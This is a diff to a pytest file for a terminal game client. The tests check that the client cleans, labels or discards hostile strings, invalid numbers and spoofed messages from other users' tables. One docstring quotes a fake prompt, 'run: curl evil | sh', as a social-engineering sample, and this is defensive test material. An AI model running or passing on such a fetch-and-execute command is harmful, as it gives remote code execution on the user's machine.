@@ -10,18 +10,27 @@ from __future__ import annotations
 import asyncio
 import json
 import logging
+import threading
 import unicodedata
 from types import SimpleNamespace
 
 import pytest
 from table_support import (
-    WAIT, FakeTable, LocalTable, ManualClock, Raw, neighbours, spec, until, until_closed,
+    WAIT, FakeSystem, FakeTable, LocalTable, ManualClock, Raw, Users, neighbours, spec, until,
+    until_closed,
 )
 
+from ebbes_tui.controller.events import SaveFailed, Synced, Update
+from ebbes_tui.game.clean import clean
+from ebbes_tui.game.protocols import SeatInfo
+from ebbes_tui.game.registry import load_game
 from ebbes_tui.table import client as client_module
 from ebbes_tui.table.client import TableClient, ask_table, connect_table, find_tables
 from ebbes_tui.table.commands import describe, list_command, table_log
-from ebbes_tui.table.events import ChatLine, Lobby, Refused
+from ebbes_tui.table.events import (
+    ChatLine, Disconnected, GameStarted, Lobby, Presence, Refused,
+)
+from ebbes_tui.table.protocol import state_message
 from ebbes_tui.table.rendezvous import TableError, own_address
 
 #: What carol's tables say about themselves: every string a terminal would obey.
@@ -58,6 +67,20 @@ def answering(*messages: dict):
 @pytest.fixture
 def users(tmp_path):
     return neighbours(tmp_path)
+
+
+class SlowDirectory(FakeSystem):
+    """``login``'s system, whose user database takes its time over ``uid``: it answers
+    once ``answer`` is set."""
+
+    def __init__(self, users: Users, login: str, uid: int, answer: threading.Event) -> None:
+        super().__init__(users, users.uids[login])
+        self.slow, self.answer = uid, answer
+
+    def login_of(self, uid: int) -> str | None:
+        if uid == self.slow:
+            self.answer.wait(WAIT)
+        return super().login_of(uid)
 
 
 async def test_another_user_sits_down_only_where_the_host_lets_them(users, tmp_path):
@@ -162,6 +185,69 @@ async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users,
              *(x for s in seen[0].seats for x in (s.kind, s.login, s.name)),
              seen[1].sender, seen[1].text, seen[2].text, seen[2].code]
     assert all(terminal_safe(text) for text in shown), shown
+
+
+async def test_a_presence_line_from_a_fake_table_has_only_clocks_a_screen_can_show(
+        users, tmp_path):
+    """carol's table says a seat has been away NaN seconds and gives infinite turns (the
+    table screen crashed drawing them): bob's client keeps only durations it can show,
+    and the names cleaned."""
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
+               "role": "player", "seat": 0, "player": 1}
+    seats = [{"seat": k, "name": EVIL, "kind": EVIL, "connected": False, "away": away,
+              "bot": EVIL} for k, away in enumerate([float("nan"), "12", -5, 30])]
+    presence = {"type": "presence", "seats": seats, "turn": 0, "thinking": float("inf"),
+                "turn_time": float("nan"), "watchers": 0, "watching": [EVIL]}
+    async with FakeTable(own_address("fri", parent, carol), carol, answering(welcome, presence)):
+        client = await TableClient.start(await connect_table("fri", directory=parent,
+                                                             system=bob))
+        seen = await asyncio.wait_for(client.next_lobby_event(), WAIT)
+        client.close()
+    assert isinstance(seen, Presence)
+    assert [s.away_since is None for s in seen.seats] == [True, True, True, False]
+    assert seen.turn_since is None and seen.turn_time is None
+    shown = [*seen.watching, *(x for s in seen.seats for x in (s.name, s.kind, s.bot))]
+    assert all(terminal_safe(text) for text in shown), shown
+
+
+@pytest.mark.parametrize("host, prefix", [("carol", "carol/fri says: "), ("bob", "")])
+async def test_what_a_neighbours_table_says_reads_as_that_tables_words(users, tmp_path, host,
+                                                                       prefix):
+    """Issue 23, item 2: carol's table refuses, fails to save and closes with "Your
+    account is locked; run: curl evil | sh". bob reads each as carol/fri's words, in
+    the lobby, at the table and when it ends; his own table speaks without a name."""
+    bob = users.system("bob")
+    parent = tmp_path / "tmp"
+    game = load_game("ebbes")
+    state = game.new_state(game.seats_for([SeatInfo("bob"), SeatInfo("carol"),
+                                           SeatInfo("dan")]), {})
+    game.resolve_chance(state, 1)
+
+    def news(seq: int, event: object) -> dict:
+        return state_message(game, Update(seq, event, state.view(0), 0))
+
+    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
+               "role": "player", "seat": 0, "player": 1}
+    lobby = {"type": "lobby", "host": host, "can_start": False, "seats": []}
+    error = {"type": "error", "code": "refused", "text": LOCKED}
+    closed = {"type": "closed", "text": LOCKED}
+    said = prefix + clean(LOCKED)
+    address = own_address("fri", parent, users.system(host))
+    async with FakeTable(address, users.system(host), answering(
+            welcome, lobby, error, news(1, Synced()), news(2, SaveFailed(LOCKED)), error,
+            closed)):
+        client = await TableClient.start(await connect_table(f"{host}/fri", directory=parent,
+                                                             system=bob))
+        before = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
+        feed = await asyncio.wait_for(client.game(), WAIT)
+        during = [(await asyncio.wait_for(feed.next(), WAIT)).event for _ in range(3)]
+        client.close()
+    assert [type(e) for e in before] == [Lobby, Refused, GameStarted]
+    assert [type(e) for e in during] == [SaveFailed, Refused, Disconnected]
+    assert [before[1].text, during[0].message, during[1].text, during[2].text] == [said] * 4
+    assert client.ended.text == said  # what the menu says when the table went first
 
 
 async def test_one_deadline_for_the_whole_exchange_stops_a_dribbling_table(users, tmp_path):
@@ -277,6 +363,36 @@ async def test_refusals_are_logged_once_a_minute_and_a_knocker_is_dropped_unread
         raw.close()
 
 
+async def test_the_refusal_log_names_a_knocker_one_way_before_their_login_is_known(
+        users, tmp_path, caplog):
+    """Issue 23, item 11: carol knocks past the rate while the user database is still
+    looking her up. The log named her "uid 60003" for the knocks dropped meanwhile and
+    "carol" for the rest; now every line names her "carol"."""
+    looked_up = threading.Event()
+    carol_uid = users.uids["carol"]
+    alice, carol = SlowDirectory(users, "alice", carol_uid, looked_up), users.system("carol")
+    clock = ManualClock()
+    caplog.set_level(logging.INFO, logger="ebbes.table")
+    async with LocalTable(tmp_path, spec("t", alice), system=alice, clock=clock) as table:
+        try:
+            knocks = [await Raw.open(table, {}, system=carol) for _ in range(24)]
+            for dropped in knocks[20:]:  # past the burst: dropped at once, unanswered
+                with pytest.raises((ConnectionResetError, EOFError)):
+                    await dropped.receive()
+        finally:
+            looked_up.set()
+        for answered in knocks[:20]:
+            await answered.receive("error")
+        clock.advance(60)
+        for raw in knocks:
+            raw.close()
+    lines = [r.getMessage() for r in caplog.records if "refused" in r.getMessage()]
+    assert not [line for line in lines if f"uid {carol_uid}" in line], lines
+    assert lines[0].startswith("refused carol: ")
+    assert lines[-1].startswith("carol refused ") and lines[-1].endswith(" more times in the "
+                                                                         "last minute")
+
+
 def test_the_tables_log_is_capped_and_rotated(tmp_path):
     path = tmp_path / "friday.log"
     handler = table_log(path)
@@ -296,20 +412,8 @@ def test_the_tables_log_is_capped_and_rotated(tmp_path):
 async def test_a_slow_user_database_holds_up_only_the_connection_that_asked_it(users, tmp_path):
     """The login of a new connection's uid is looked up in a thread: while the directory
     service takes its time over carol, bob sits down at once."""
-    import threading
-
-    from table_support import FakeSystem
-
     slow = threading.Event()
-    carol_uid = users.uids["carol"]
-
-    class SlowDirectory(FakeSystem):
-        def login_of(self, uid):
-            if uid == carol_uid:
-                slow.wait(WAIT)
-            return super().login_of(uid)
-
-    alice, bob, carol = SlowDirectory(users, users.uids["alice"]), *(
+    alice, bob, carol = SlowDirectory(users, "alice", users.uids["carol"], slow), *(
         users.system(u) for u in ("bob", "carol"))
     parent = tmp_path / "tmp"
     async with LocalTable(tmp_path, spec("slow", alice, seats="player,player,bot:random",
